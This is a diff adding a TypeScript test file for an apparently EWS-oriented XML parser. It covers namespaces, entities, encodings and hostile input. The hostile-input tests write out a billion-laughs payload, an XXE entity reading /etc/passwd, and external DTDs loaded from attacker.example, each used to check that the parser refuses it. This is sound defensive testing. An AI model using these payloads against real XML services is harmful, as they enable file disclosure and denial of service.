@@ -1,0 +1,179 @@
+import { attr, child, children, EwsErrorCode, EwsResponseCode, NS, parseXml, resolveQName } from '../index';
+import { ewsErrorOf } from '../../test/soap-fixtures';
+
+describe('parseXml: namespaces', () => {
+  it('resolves any prefix through the xmlns declarations in scope', () => {
+    const root = parseXml(
+      `<env:Envelope xmlns:env="${NS.SOAP}"><env:Body><ews:GetFolder xmlns:ews="${NS.MESSAGES}" xmlns:typ="${NS.TYPES}">` +
+        '<ews:FolderIds><typ:DistinguishedFolderId Id="inbox"/></ews:FolderIds></ews:GetFolder></env:Body></env:Envelope>',
+    );
+    expect([root.ns, root.local, root.prefix]).toEqual([NS.SOAP, 'Envelope', 'env']);
+    const op = child(child(root, NS.SOAP, 'Body'), NS.MESSAGES, 'GetFolder');
+    const id = child(child(op, NS.MESSAGES, 'FolderIds'), NS.TYPES, 'DistinguishedFolderId');
+    expect(attr(id, 'Id')).toBe('inbox');
+  });
+
+  it('resolves default namespaces, their redeclaration and undeclaration', () => {
+    const root = parseXml(
+      `<Envelope xmlns="${NS.SOAP}"><Body><GetFolder xmlns="${NS.MESSAGES}"><FolderIds>` +
+        `<DistinguishedFolderId xmlns="${NS.TYPES}" Id="calendar"/><Plain xmlns=""/></FolderIds></GetFolder></Body></Envelope>`,
+    );
+    const ids = child(child(child(root, NS.SOAP, 'Body'), NS.MESSAGES, 'GetFolder'), NS.MESSAGES, 'FolderIds');
+    expect(children(ids).map((c) => [c.ns, c.local])).toEqual([
+      [NS.TYPES, 'DistinguishedFolderId'],
+      ['', 'Plain'],
+    ]);
+  });
+
+  it('lets an inner declaration rebind a prefix for its subtree only', () => {
+    const root = parseXml(`<p:a xmlns:p="urn:one"><p:b xmlns:p="urn:two"><p:c/></p:b><p:d/></p:a>`);
+    const [b, d] = root.children;
+    expect([b.ns, b.children[0].ns, d.ns]).toEqual(['urn:two', 'urn:two', 'urn:one']);
+  });
+
+  it('keeps namespaced attributes apart from plain ones, and resolves QName values', () => {
+    const root = parseXml(
+      `<t:Items xmlns:t="${NS.TYPES}" xmlns:i="${NS.XSI}"><t:Item i:type="t:CalendarItemType" Id="1" xml:lang="fr"/></t:Items>`,
+    );
+    const item = root.children[0];
+    expect(item.attrs).toEqual({ Id: '1' });
+    expect(attr(item, 'type', NS.XSI)).toBe('t:CalendarItemType');
+    expect(attr(item, 'lang', NS.XML)).toBe('fr');
+    expect(attr(item, 'type')).toBeUndefined();
+    expect(resolveQName(item, 't:CalendarItemType')).toEqual({ ns: NS.TYPES, local: 'CalendarItemType' });
+    expect(resolveQName(item, 'nope:X')).toBeUndefined();
+  });
+
+  it('parses empty elements with attributes, keeps child order and text exactly', () => {
+    const root = parseXml(
+      `<t:Item xmlns:t="${NS.TYPES}"><t:Subject>  two  spaces </t:Subject><t:Body BodyType="Text"/><t:Start>x</t:Start></t:Item>`,
+    );
+    expect(root.children.map((c) => c.local)).toEqual(['Subject', 'Body', 'Start']);
+    expect(root.children[0].text).toBe('  two  spaces ');
+    const body = root.children[1];
+    expect([attr(body, 'BodyType'), body.text, body.children]).toEqual(['Text', '', []]);
+  });
+
+  it('expands predefined entities and character references, keeps CDATA literal', () => {
+    const root = parseXml('<a b="&lt;&amp;&quot;&#x41;&#66;">&lt;p&gt; &amp; &apos;&#x1F600;<![CDATA[<b>&amp;</b>]]></a>');
+    expect(root.attrs.b).toBe('<&"AB');
+    expect(root.text).toBe("<p> & '😀<b>&amp;</b>");
+  });
+
+  it('normalises line ends and literal whitespace in attribute values, as XML requires', () => {
+    const root = parseXml('<a b="x\ty\r\nz" c="&#9;&#10;&#13;">1\r\n2\r3</a>');
+    expect(root.attrs).toEqual({ b: 'x y z', c: '\t\n\r' });
+    expect(root.text).toBe('1\n2\n3');
+  });
+
+  it('accepts a UTF-8 buffer with a byte order mark and an XML declaration', () => {
+    const xml = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>é</a>')]);
+    expect(parseXml(xml).text).toBe('é');
+  });
+});
+
+describe('parseXml: hostile input', () => {
+  const billionLaughs =
+    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
+    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
+    ']><lolz>&lol9;</lolz>';
+
+  it('refuses a billion-laughs document before any expansion, quickly', () => {
+    const started = process.hrtime.bigint();
+    const err = ewsErrorOf(() => parseXml(billionLaughs));
+    const ms = Number(process.hrtime.bigint() - started) / 1e6;
+    expect(err.code).toBe(EwsErrorCode.DtdForbidden);
+    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
+    expect(err.location).toEqual({ line: 1, position: 22 });
+    expect(ms).toBeLessThan(100);
+  });
+
+  it('refuses external entities and external DTDs', () => {
+    for (const xml of [
+      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
+      '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>',
+      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><a/>',
+      '<a><!ENTITY x "y"></a>',
+    ]) {
+      expect(ewsErrorOf(() => parseXml(xml)).code).toBe(EwsErrorCode.DtdForbidden);
+    }
+  });
+
+  it('refuses a reference to an undeclared entity instead of passing it through', () => {
+    const err = ewsErrorOf(() => parseXml('<a>&xxe;</a>'));
+    expect(err.code).toBe(EwsErrorCode.MalformedXml);
+    expect(err.message).toMatch(/undeclared entity '&xxe;'/);
+  });
+
+  it('refuses 10,000-deep nesting without recursing', () => {
+    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
+    const err = ewsErrorOf(() => parseXml(deep));
+    expect(err.code).toBe(EwsErrorCode.TooDeep);
+    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
+    expect(ewsErrorOf(() => parseXml('<a>'.repeat(1_000_000))).code).toBe(EwsErrorCode.TooDeep);
+  });
+
+  it('enforces the configured depth exactly', () => {
+    const nested = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
+    expect(() => parseXml(nested(64))).not.toThrow();
+    expect(ewsErrorOf(() => parseXml(nested(65))).code).toBe(EwsErrorCode.TooDeep);
+    expect(ewsErrorOf(() => parseXml(nested(4), { maxDepth: 3 })).code).toBe(EwsErrorCode.TooDeep);
+    let el = parseXml(nested(1000), { maxDepth: 1000 });
+    let depth = 1;
+    while (el.children.length > 0) [el, depth] = [el.children[0], depth + 1];
+    expect(depth).toBe(1000);
+    expect(() => parseXml('<a/>', { maxDepth: 100_000 })).toThrow(RangeError);
+  });
+
+  it('refuses input over the byte limit, counting bytes not characters', () => {
+    expect(ewsErrorOf(() => parseXml(`<a>${'x'.repeat(100)}</a>`, { maxBytes: 100 })).code).toBe(EwsErrorCode.TooLarge);
+    expect(ewsErrorOf(() => parseXml(`<a>${'é'.repeat(45)}</a>`, { maxBytes: 90 })).code).toBe(EwsErrorCode.TooLarge);
+    expect(ewsErrorOf(() => parseXml(Buffer.alloc(101, 0x20), { maxBytes: 100 })).code).toBe(EwsErrorCode.TooLarge);
+    expect(parseXml(`<a>${'é'.repeat(42)}</a>`, { maxBytes: 91 }).text).toHaveLength(42);
+  });
+
+  it('refuses too many elements', () => {
+    expect(ewsErrorOf(() => parseXml(`<a>${'<b/>'.repeat(11)}</a>`, { maxElements: 10 })).code).toBe(EwsErrorCode.TooManyElements);
+  });
+
+  it.each([
+    ['mismatched tags', '<a><b></a></b>'],
+    ['an unclosed element', '<?xml version="1.0"?><a><b/>'],
+    ['an end tag without start', '<a/></a>'],
+    ['an unquoted attribute', '<a x=1/>'],
+    ['a repeated attribute', '<a x="1" x="2"/>'],
+    ['the same attribute under two prefixes', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:y="1" q:y="2"/>'],
+    ['a bare ampersand', '<a>fish & chips</a>'],
+    ['"<" in an attribute', '<a b="<"/>'],
+    ['text after the root', '<a/>tail'],
+    ['two roots', '<a/><b/>'],
+    ['no root at all', '   '],
+    ['an empty document', ''],
+    ['an unbound element prefix', '<p:a/>'],
+    ['an unbound attribute prefix', '<a p:b="1"/>'],
+    ['a prefix bound to nothing', '<a xmlns:p=""/>'],
+    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>'],
+    ['a forbidden control character', '<a>\u0001</a>'],
+    ['a reference to a forbidden character', '<a>&#1;</a>'],
+    ['a reference to a surrogate', '<a>&#xD800;</a>'],
+    ['an unterminated comment', '<a><!-- </a>'],
+    ['an unterminated start tag', '<a><b'],
+    ['a misplaced XML declaration', '<a><?xml version="1.0"?></a>'],
+  ])('refuses %s as malformed', (_what, xml) => {
+    const err = ewsErrorOf(() => parseXml(xml));
+    expect(err.code).toBe(EwsErrorCode.MalformedXml);
+    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
+  });
+
+  it('reports where the document went wrong', () => {
+    expect(ewsErrorOf(() => parseXml('<a>\n  <b></c>\n</a>')).location).toEqual({ line: 2, position: 6 });
+  });
+
+  it('refuses bytes that are not UTF-8, UTF-16 and other declared encodings', () => {
+    expect(ewsErrorOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))).code).toBe(
+      EwsErrorCode.InvalidEncoding,
+    );
+    expect(ewsErrorOf(() => parseXml(Buffer.from('\ufeff<a/>', 'utf16le'))).code).toBe(EwsErrorCode.InvalidEncoding);
+    expect(ewsErrorOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).code).toBe(EwsErrorCode.InvalidEncoding);
+  });
+});
